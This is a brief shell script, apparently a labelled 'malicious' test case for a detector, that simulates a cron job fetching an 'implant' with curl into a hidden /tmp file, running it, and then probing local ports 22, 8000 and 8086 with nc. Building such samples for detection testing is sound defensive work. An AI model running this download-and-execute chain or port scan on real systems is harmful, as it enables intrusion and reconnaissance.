#!/bin/sh
# malicious: the same nc probe, from a cron job whose shell first downloaded and ran a payload (scanning after a foothold)
. "$(dirname "$0")/../../lib.sh"
$B/cron "curl -s -o /tmp/.scan $URL/implant && chmod +x /tmp/.scan && /tmp/.scan; for p in 22 8000 8086; do $B/nc -z -w 1 127.0.0.1 \$p; done; rm -f /tmp/.scan"
